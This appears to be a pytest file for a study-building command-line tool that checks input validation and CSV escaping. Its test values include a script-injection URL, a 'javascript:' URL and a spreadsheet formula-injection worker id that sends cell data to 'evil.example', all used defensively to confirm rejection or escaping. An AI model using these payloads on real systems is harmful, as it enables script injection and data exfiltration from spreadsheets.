"""python -m eval.study build | analyze | publish: every user mistake is one `error:` line with exit status 2,
and nothing is written or sent (issue 19). The table is docs/errors.md."""
from __future__ import annotations

import csv

import pytest
from study_fixtures import make_clips_dir, read_batch_csv, results_rows, write_csv

from eval.study.__main__ import main


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    root = tmp_path_factory.mktemp("bad")
    real, ours = make_clips_dir(root, "real", 3), make_clips_dir(root, "ours", 3, ".avi", 10)
    common = ["--system", f"ours={ours}", "--real", str(real), "--num", "3", "--items-per-hit", "3"]
    for name, seed in (("study", "1"), ("other", "2")):
        assert main(["build", "--kind", "turing", *common, "--base-url", "https://h.example/m",
                     "--out", str(root / name), "--seed", seed]) == 0
    e = {"root": root, "common": common, "study": root / "study"}
    for name in ("study", "other"):                   # one results file per study, every worker votes "real"
        header, brows = read_batch_csv(root / name / "mturk" / "turing" / "batch.csv")
        slots = len([c for c in header if c.startswith("item_id_")])
        answers = [(h, f"W{w}", {i: "real" for i in range(1, slots + 1)}) for h in range(len(brows)) for w in range(3)]
        hdr, rows = results_rows(header, brows, answers, "vote", "fields")
        e[f"{name}_results"] = write_csv(root / f"{name}_results.csv", hdr, rows)
        e["header_only"] = write_csv(root / "header_only.csv", hdr, [])
    return e


def _build(e, *flags):
    return ["build", "--kind", "turing", *e["common"], "--out", str(e["root"] / "new"), *flags]


def _analyze(e, *flags, results="study_results"):
    return ["analyze", "--results", str(e[results]), "--key", str(e["study"]), "--out", str(e["root"] / "an"), *flags]


def _publish(e, *flags):
    return ["publish", "--study", str(e["study"]), *flags]


# case -> (argv maker, what the user sees). Each case exits 0 (or 1, or with a traceback) on the code before
# issue 19.
CASES = {
    "build: http:// base URL": (lambda e: _build(e, "--base-url", "http://h.example/m"),
                                "--base-url must be a plain https:// URL"),
    "build: script in base URL": (lambda e: _build(e, "--base-url", 'https://h.example/m"><script>x()</script>'),
                                  "--base-url must be a plain https:// URL"),
    "build: javascript: base URL": (lambda e: _build(e, "--base-url", "javascript:alert(1)//"),
                                    "--base-url must be a plain https:// URL"),
    "build: into another study": (lambda e: [*_build(e, "--base-url", "https://h.example/m", "--seed", "9")[:-2],
                                             "--out", str(e["study"]), "--seed", "9"],
                                  "holds a study built with other settings"),
    "build: --num 0": (lambda e: [*_build(e, "--base-url", "https://h.example/m"), "--num", "0"],
                       "--num must be >= 1"),
    "analyze: --confidence 2": (lambda e: _analyze(e, "--confidence", "2"), "--confidence is a level in (0, 1)"),
    "analyze: --confidence 0": (lambda e: _analyze(e, "--confidence", "0"), "--confidence is a level in (0, 1)"),
    "analyze: --confidence nan": (lambda e: _analyze(e, "--confidence", "nan"), "--confidence is a level in (0, 1)"),
    "analyze: --max-hits-per-worker -1": (lambda e: _analyze(e, "--max-hits-per-worker", "-1"),
                                          "--max-hits-per-worker must be >= 0"),
    "analyze: --gold-tolerance -1": (lambda e: _analyze(e, "--gold-tolerance", "-1"),
                                     "--gold-tolerance is a fraction of gold answers in [0, 1]"),
    "analyze: --gold-tolerance 1.5": (lambda e: _analyze(e, "--gold-tolerance", "1.5"),
                                      "--gold-tolerance is a fraction of gold answers in [0, 1]"),
    "analyze: results of another study": (lambda e: _analyze(e, results="other_results"),
                                          "results of another study?"),
    "analyze: header-only results file": (lambda e: _analyze(e, results="header_only"),
                                          "hold no rows, only a header"),
    "analyze: --key is not a study": (lambda e: [*_analyze(e)[:3], "--key", str(e["root"])], "key.json not found"),
    "publish: --reward 0": (lambda e: _publish(e, "--reward", "0"), "--reward is US dollars per assignment"),
    "publish: --reward $0.20": (lambda e: _publish(e, "--reward", "$0.20"), "(no $ sign), got '$0.20'"),
    "publish: --reward 0.205": (lambda e: _publish(e, "--reward", "0.205"), "at most 2 decimals"),
    "publish: --reward -1": (lambda e: _publish(e, "--reward=-1"), "--reward is US dollars per assignment"),
    "publish: --task of no study": (lambda e: _publish(e, "--task", "mos_vq"),
                                    "--task mos_vq is not a task of this study; its tasks are turing"),
    "publish: --locale usa": (lambda e: _publish(e, "--locale", "usa"), "two-letter country code"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_catalogue(case, env, capsys, monkeypatch):
    import eval.study.publish as publish

    monkeypatch.setattr(publish, "make_client", lambda **kw: pytest.fail("MTurk was contacted"))
    key_before = (env["study"] / "private" / "key.json").read_bytes()
    argv, message = CASES[case]
    assert main(argv(env)) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1 and message in err, err
    assert not (env["root"] / "new").exists() and not (env["root"] / "an").exists()
    assert (env["study"] / "private" / "key.json").read_bytes() == key_before


def test_worker_ids_cannot_run_formulas_in_workers_csv(env, tmp_path):
    header, brows = read_batch_csv(env["study"] / "mturk" / "turing" / "batch.csv")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    answers = [(h, w, {i: v for i in range(1, 5)}) for h in range(len(brows))
               for w, v in ((evil, "real"), ("-3.2", "generated"), ("@cmd", "cannot_tell"))]
    hdr, rows = results_rows(header, brows, answers, "vote", "fields")
    path = write_csv(tmp_path / "Batch_9_batch_results.csv", hdr, rows)
    assert main(["analyze", "--results", str(path), "--key", str(env["study"]), "--out", str(tmp_path / "an")]) == 0
    with open(tmp_path / "an" / "workers.csv", newline="") as f:
        workers = {r["worker_id"]: r for r in csv.DictReader(f)}
    assert set(workers) == {"'" + evil, "-3.2", "'@cmd"}               # a number-like id stays as typed
    assert workers["-3.2"]["assignments"] == "2" and workers["-3.2"]["gold_total"] == "2"   # numbers stay numbers
    for name in ("Batch_9_batch_results.csv",):                        # the approve/reject file too
        text = (tmp_path / "an" / "approve_reject" / name).read_text()
        assert "'" + evil.replace('"', '""') in text and ",=HYPERLINK" not in text


def test_analysis_folder_is_replaced_as_a_whole_and_never_mixed_into_other_files(env, tmp_path, capsys):
    out = tmp_path / "an"
    args = ["analyze", "--results", str(env["study_results"]), "--key", str(env["study"]), "--out", str(out)]
    assert main(args) == 0
    (out / "approve_reject" / "Batch_OLD.csv").write_text("from an earlier analysis")
    assert main(args) == 0
    assert not (out / "approve_reject" / "Batch_OLD.csv").exists()    # no table of an older run stays
    assert main(args[:-1] + [str(env["study"])]) == 2                  # the study folder itself
    assert "holds other files" in capsys.readouterr().err
    assert (env["study"] / "private" / "key.json").is_file()
